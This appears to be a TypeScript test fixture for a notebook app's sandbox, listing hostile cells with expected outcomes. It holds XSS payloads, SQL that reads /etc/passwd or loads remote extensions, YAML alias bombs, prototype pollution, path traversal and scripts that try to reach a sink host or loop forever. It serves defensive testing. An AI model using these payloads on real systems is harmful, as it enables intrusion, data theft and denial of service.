/** A cell that means no good: its head, its body, and how it ends where it may not do what it wants. */
export type HostileCell = readonly [head: string, body: string, ends: "done" | "error" | "stopped" | "skipped"];

/** Listeners that nothing may ever reach: `host:port`s of HTTP and of UDP. */
export interface Sinks {
  readonly http: string;
  readonly udp: string;
}

const strategy = (inside: string, before = ""): string => `import { Strategy, Bar } from "tidebook";
${before}
export class Hostile extends Strategy {
${inside}
}`;

/** A strategy of this name, and a run of it, which may take two seconds between signs of life where it has none. */
function runOf(name: string, source: string, ends: HostileCell[2], strategyEnds: HostileCell[2] = "done") {
  const run = `strategy: ${name}\ndata: bars\nbudget: ${ends === "stopped" ? 2 : 60}`;
  return [
    [`strategy ${name}`, source, strategyEnds],
    [`backtest run_${name}`, run, strategyEnds === "done" ? ends : "skipped"],
  ] satisfies HostileCell[];
}

/** Strategies that never end, take all they can get, ask for what is not theirs, or keep the compiler busy. */
export const strategies: readonly HostileCell[] = [
  ["data bars", "generate: { model: gbm, seed: 1, bars: 300 }", "done"],
  ...runOf("spins", strategy("  onBar(bar: Bar): void { while (true) {} }"), "stopped"),
  ...runOf("recurses", strategy("  onBar(bar: Bar): void { this.onBar(bar); }"), "error"),
  ...runOf(
    "hoards",
    strategy("  all: f64[] = [];\n  onBar(bar: Bar): void { while (true) this.all.push(1); }"),
    "error",
  ),
  ...runOf("traps", strategy('  onBar(bar: Bar): void { throw new Error("<img src=x onerror=alert(1)>"); }'), "error"),
  ...runOf(
    "orders",
    strategy("  onBar(bar: Bar): void { for (let i = 0; i < 100; i++) this.buyLimit(1e300, -1); }"),
    "done",
  ),
  ...runOf(
    "asks",
    strategy("  onBar(bar: Bar): void { steal(); }", "declare function steal(): void;"),
    "done",
    "error",
  ),
  ...runOf(
    "outside",
    strategy("  onBar(bar: Bar): void { steal(); }", '@external("env", "fetch") declare function steal(): void;'),
    "done",
    "error",
  ),
  ...runOf(
    "grows",
    strategy(
      "  onBar(bar: Bar): void { deeper<i32>(); }",
      "class Box<T> { inside: T | null = null; }\nfunction deeper<T>(): void { deeper<Box<T>>(); }",
    ),
    "done",
    "error",
  ),
  ...runOf("deep", strategy(`  onBar(bar: Bar): void { const x = ${"(".repeat(9000)}1; }`), "done", "error"),
];

/** Queries that write, reach files, or never come back. */
export const queries: readonly HostileCell[] = [
  ["sql attach", "ATTACH 'file:/etc/passwd' AS x", "error"],
  ["sql pragma", "PRAGMA writable_schema = 1", "error"],
  ["sql vacuum", "VACUUM INTO '/tmp/stolen.db'", "error"],
  ["sql writes", "CREATE TABLE t (a)", "error"],
  ["sql twice", "SELECT 1; DROP TABLE x", "error"],
  ["sql extends", "SELECT load_extension('http://stolen')", "error"],
  ["sql files", "SELECT readfile('/etc/passwd')", "error"],
  ["sql schema", "SELECT * FROM sqlite_master", "done"],
  ["sql endless", "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n", "stopped"],
  ["sql hoards", "SELECT hex(zeroblob(900000000))", "error"],
];

/** Bodies that are bombs, lead out of the notebook, or name what every object has. */
export const bodies: readonly HostileCell[] = [
  ["data aliases", `a: &a [x,x,x]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]`, "error"],
  ["data proto", "__proto__: { builtin: sp500 }", "error"],
  ["data nested", "a: ".repeat(1) + "[".repeat(20_000), "error"],
  ["data tags", "builtin: !!js/function 'function () {}'", "error"],
  ["data endless", "generate: { model: gbm, seed: 1, bars: 1000000000000 }", "error"],
  ["data away", "file: http://127.0.0.1:1/prices.csv", "error"],
  ["data above", "file: ../../../../etc/passwd", "error"],
  ["data inside", "builtin: ../../index.html", "error"],
  ["data constructor", "generate: { model: gbm, seed: 1, bars: 50 }", "done"],
  ["sql valueof", "SELECT count(*) AS n FROM constructor", "done"],
  ["sql tostring", "SELECT n FROM valueof", "done"],
  ["compare circle", "runs: [circle, valueof]", "error"],
];

const whole = (value: string): string => `const text = new TextEncoder().encode(JSON.stringify(${value}));
const bytes = new Uint8Array(Math.ceil((8 + text.length) / 8) * 8);
new DataView(bytes.buffer).setUint32(0, bytes.length, true);
new DataView(bytes.buffer).setUint32(4, text.length, true);
bytes.set(text, 8);`;

/** Scripts that want out, want everything, or never end. */
export function scripts({ http, udp }: Sinks): readonly HostileCell[] {
  const reaches = (what: string): string =>
    `try { return { text: "reached " + await (${what}) }; } catch { return { text: "refused" }; }`;
  return [
    ["js location", `self.location = "http://${http}/location"; return { text: "refused" };`, "done"],
    ["js page", `document.body.innerHTML = "<img src=http://${http}/img>"; return {};`, "error"],
    ["js frames", `parent.document.title = "taken"; top.location = "http://${http}/top"; return {};`, "error"],
    ["js asks", reaches(`fetch("http://${http}/fetch", { mode: "no-cors", keepalive: true })`), "done"],
    ["js module", reaches(`import("http://${http}/module.js")`), "done"],
    [
      "js font",
      reaches(`new FontFace("x", "url(http://${http}/font.woff)").load().then((font) => self.fonts.add(font))`),
      "done",
    ],
    ["js stream", reaches(`WebAssembly.compileStreaming(fetch("http://${http}/module.wasm"))`), "done"],
    ["js shared", reaches(`new SharedWorker("http://${http}/shared.js")`), "done"],
    ["js service", reaches(`navigator.serviceWorker.register("http://${http}/service.js")`), "done"],
    ["js rtc", reaches(`new RTCPeerConnection({ iceServers: [{ urls: "stun:${udp}" }] }).createOffer()`), "done"],
    ["js socket", reaches(`new WebSocketStream("ws://${http}/stream").opened`), "done"],
    [
      "js nested",
      `const inner = \`fetch("http://${http}/inner", { mode: "no-cors" }); for (;;);\`;
const outer = \`new Worker(URL.createObjectURL(new Blob([\${JSON.stringify(inner)}]))); for (;;);\`;
new Worker(URL.createObjectURL(new Blob([outer])));
await new Promise(() => {});
return {};`,
      "stopped",
    ],
    [
      "js channel",
      `new BroadcastChannel("tidebook").postMessage({ kind: "deleted" }); return { text: "told" };`,
      "done",
    ],
    ["js spins", "for (;;);", "stopped"],
    ["js waits", "const again = () => Promise.resolve().then(again); await again();", "stopped"],
    [
      "js drips",
      `${whole("{ progress: [1, 2] }")}\nfor (;;) { postMessage(bytes.buffer.slice(0)); for (let wait = Date.now() + 200; Date.now() < wait; ); }`,
      "error",
    ],
    ["js storms", "for (;;) postMessage(new ArrayBuffer(8));", "error"],
    ["js forges", "postMessage({ answer: { text: 'forged' } }); await new Promise(() => {});", "error"],
    ["js hoards", `return { text: "x".repeat(2 ** 27) };`, "error"],
    ["js circles", "const all = {}; all.table = all; return all;", "error"],
    ["js traps", "return { get text() { throw new Error('trapped'); } };", "error"],
    ["js markup", `return { html: "<img src=http://${http}/html>" };`, "error"],
    [
      "js shown",
      `const bad = "<img src=http://${http}/shown onerror=alert(1)>";
return { text: bad, table: { columns: [bad, "__proto__", "constructor"], rows: [[bad, bad, bad]] }, bars: { labels: [bad], values: [1] } };`,
      "done",
    ],
    ["js proto", `return JSON.parse('{"text": "x", "__proto__": { "polluted": true }}');`, "error"],
    ["js reads", "return { text: String(cells[prices]) };", "error"],
  ];
}

/** Text around cells that asks for something by itself, or would when it is clicked. */
export const prose = ({ http, udp }: Sinks): string => `
<script>fetch("http://${http}/script"); new RTCPeerConnection({ iceServers: [{ urls: "stun:${udp}" }] }).createDataChannel("x")</script>
<img src="http://${http}/img" onerror="alert(1)">
<meta http-equiv="refresh" content="0; url=http://${http}/refresh">
<link rel="dns-prefetch" href="http://prefetched.invalid"><link rel="preconnect" href="http://${http}">
<link rel="stylesheet" href="http://${http}/style.css"><style>@import "http://${http}/import.css";</style>
<base href="http://${http}/base/">
<iframe src="http://${http}/frame" srcdoc="<script>parent.taken = 1</script>"></iframe>
<form action="http://${http}/form"><button autofocus onfocus="form.submit()">x</button></form>
<a href="http://${http}/a" ping="http://${http}/ping">x</a> <object data="http://${http}/object"></object>
<svg onload="location='http://${http}/svg'"><use href="http://${http}/use#x"/></svg>
<video poster="http://${http}/poster" src="http://${http}/video" autoplay></video>

![x](http://${http}/image) ![x](//${http}/image) ![x](data:image/svg+xml;base64,PHN2Zy8+)
[x](javascript:fetch("http://${http}/link")) [x](&#106;avascript:alert(1)) [x](java&Tab;script:alert(1))
[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](blob:http://${http}/x) [x]: javascript:alert(1)

[x]

<javascript:alert(1)> <http://${http}/auto" onclick="alert(1)>

${"[".repeat(5000)}${"*a **a ".repeat(3000)}

${"> ".repeat(3000)}x
`;

/** Openings that a title, a tag or an alias tries to use. */
export const frontMatters = ({ http }: Sinks): readonly string[] => [
  `---\ntitle: <img src="http://${http}/title" onerror="alert(1)">\n---\n`,
  "---\na: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b]\ntitle: *c\n---\n",
  "---\n__proto__: { isReadOnly: true }\nconstructor: { prototype: { taken: true } }\n---\n",
  `---\ntitle: ${"x".repeat(60_000)}\n---\n`,
];

export const fence = ([head, body]: HostileCell): string => `\`\`\`${head}\n${body}\n\`\`\`\n\n`;
